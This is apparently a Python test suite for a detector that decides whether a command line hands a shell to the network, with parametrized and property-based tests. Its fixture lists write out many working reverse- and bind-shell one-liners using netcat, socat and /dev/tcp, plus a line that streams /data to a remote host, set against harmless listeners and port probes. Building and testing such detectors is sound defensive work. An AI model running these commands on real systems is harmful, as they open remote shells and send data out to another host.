"""Shells on the network: netcat, socat and /dev/tcp, as a string or as a list, with and without a shell behind them."""

import shlex

import pytest
from hypothesis import given
from hypothesis import strategies as st

from iocaudit.knowledge.network_shells import shell_on_the_network

_HANDED_OVER = [
    "nc -e /bin/sh 10.0.0.1 4444",
    "nc.traditional 10.0.0.1 4444 -e/bin/bash",
    "ncat --exec /bin/bash 10.0.0.1 4444",
    "busybox nc 10.0.0.1 4444 -e sh",
    "nc -e cmd.exe 10.0.0.1 4444",
    "nc 10.0.0.1 4444 -e /tmp/x",
    "nc 10.0.0.1 4444 -c bash",
    "nc -lvp 4444 -e /bin/bash",
    "nc -e /bin/sh -lvp 4444",
    "nc -l -p 1 -e 'sh -i'",
    "ncat -lk 8080 --sh-exec 'cat | sh'",
    "ncat -lk 8080 --sh-exec=bash",
    "nc -lp 1 -e \"python3 -c 'import pty; pty.spawn(1)'\"",
    "socat tcp:10.0.0.1:4444 exec:/bin/sh",
    "socat exec:/bin/sh tcp-listen:9",
    "socat TCP4-LISTEN:1234,fork EXEC:'bash -li',pty,stderr",
    "socat tcp:10.0.0.1:1 system:id",
]
_SCRIPTS = [
    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    "bash -i >& /dev/tcp/$H/$P 0>&1",
    "bash </dev/tcp/h/1",
    "cat < /dev/tcp/h/1 | sh",
    "nohup bash -i >& /dev/tcp/h/4 0>&1 &",
    "exec /bin/sh 0</dev/tcp/h/1 1>&0 2>&0",
    "sh -i 5<> /dev/tcp/10.0.0.1/4444 0<&5 1>&5 2>&5",
    "0<&196;exec 196<>/dev/tcp/10.0.0.1/4444; sh <&196 >&196 2>&196",
    "exec 5<>/dev/tcp/10.0.0.1/4444;cat <&5 | while read line; do $line 2>&5 >&5; done",
    'exec 3<>/dev/tcp/h/1; while read -r c <&3; do eval "$c" >&3; done',
    'eval "$(cat </dev/tcp/h/1)"',
    "timeout 10 bash -c 'bash -i >& /dev/tcp/h/1'",
    "tar cz /data > /dev/tcp/h/1",
    "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect h:443 > /tmp/s",
    "mknod /tmp/p p; /bin/sh 0</tmp/p | nc 10.0.0.1 4444 1>/tmp/p",
    "nc 10.0.0.1 4444 | sh",
    "nc -l 4444 | tee /log | /bin/bash",
]
_PLAIN = [
    "nc -lk -p 9999 -e /bin/true",
    "nc -lk -p 7000 -e /bin/cat",
    "nc -lk -p 7000 -e /respond",
    "nc -lk -p 80 -e sh /respond.sh",
    "nc -lk -p 80 -e 'sh -c date'",
    "ncat -lk 8080 --sh-exec 'echo HTTP/1.1 200 OK'",
    "ncat -l 7000 --keep-open --exec=/bin/cat",
    "nc 10.0.0.1 7 -e /bin/cat",
    "nc -c www.example 443",
    "nc -w1 host 9 -q 1",
    "socat tcp-listen:7,fork exec:cat",
    "socat tcp-listen:80,fork system:'echo HTTP/1.0 200'",
    "socat TCP-LISTEN:80,fork TCP:web:80",
]
_PROBES = [
    "until (echo > /dev/tcp/db/5432) >/dev/null 2>&1; do sleep 1; done",
    "while ! timeout 1 bash -c 'cat < /dev/null > /dev/tcp/db/5432'; do sleep 1; done",
    'while ! timeout 2 bash -c "echo > /dev/tcp/$HOST/$PORT" 2>/dev/null; do sleep 2; done',
    "while ! </dev/tcp/kafka/9092; do sleep 1; done",
    "until printf '' 2>>/dev/null >>/dev/tcp/$HOST/$PORT; do sleep 1; done",
    "for i in $(seq 60); do (echo >/dev/tcp/db/5432) &>/dev/null && exit 0; sleep 1; done; exit 1",
    "exec 3<>/dev/tcp/127.0.0.1/8080 && echo -e 'GET /health HTTP/1.1\\r\\n' >&3 && cat <&3 | grep UP",
    'until bash -c "exec 3<>/dev/tcp/${DB_HOST}/${DB_PORT}"; do echo waiting; done; exec /app/start',
    "exec {fd}<>/dev/tcp/h/1",
    "if (: < /dev/tcp/h/1) 2>/dev/null; then echo up; fi",
    "read -t 1 x < /dev/tcp/h/1; echo $x",
    "nc -z h 22 | grep sh",
    "mkfifo p; nc -l 8080 <p | nc db 80 >p",
    "nc -l 8080 < /index.html",
]
_WRAPPED = [[], ["sh", "-c"], ["/bin/bash", "-ec"], ["env", "A=1", "sh", "-c"]]


@pytest.mark.parametrize("line", [*_HANDED_OVER, *_SCRIPTS])
@pytest.mark.parametrize("before", _WRAPPED)
def test_what_hands_over_a_shell(line: str, before: list[str]) -> None:
    assert shell_on_the_network([*before, line])


@pytest.mark.parametrize("line", [*_PLAIN, *_PROBES])
@pytest.mark.parametrize("before", _WRAPPED)
def test_what_waits_answers_or_asks_for_a_port(line: str, before: list[str]) -> None:
    assert not shell_on_the_network([*before, line])


@pytest.mark.parametrize(
    ("line", "expected"), [*((one, True) for one in _HANDED_OVER), *((one, False) for one in _PLAIN)]
)
def test_a_list_of_arguments_means_what_the_string_does(line: str, expected: bool) -> None:
    assert shell_on_the_network(shlex.split(line)) is expected


_PROGRAM = st.sampled_from(["nc", "ncat", "/usr/bin/nc", "netcat", "nc.openbsd"])
_WAITS = st.sampled_from([["-l"], ["-lk"], ["-lvnp", "80"], ["--listen"], ["-l", "-p", "80"]])
_OPTION = st.sampled_from(["-e", "--exec"])


@given(_PROGRAM, _WAITS, _OPTION, st.sampled_from(["/bin/sh", "bash", "sh -i", "/bin/true", "/bin/cat", "/x/answer"]))
def test_a_listener_is_judged_by_what_it_runs_and_not_by_how_it_is_written(
    program: str, waits: list[str], option: str, runs: str
) -> None:
    expected = runs in ("/bin/sh", "bash", "sh -i")
    for words in ([program, *waits, option, runs], [program, option, runs, *waits]):
        for argv in (
            words,
            [shlex.join(words)],
            ["sh", "-c", shlex.join(words)],
            ["sh", "-c", "x; " + shlex.join(words)],
        ):
            assert shell_on_the_network(argv) is expected, argv


@given(st.lists(st.text("nce -|/devtcp<>&;shbal$(){}\"'\n", max_size=80), max_size=4))
def test_any_argv_is_judged(argv: list[str]) -> None:
    assert shell_on_the_network(argv) in (True, False)
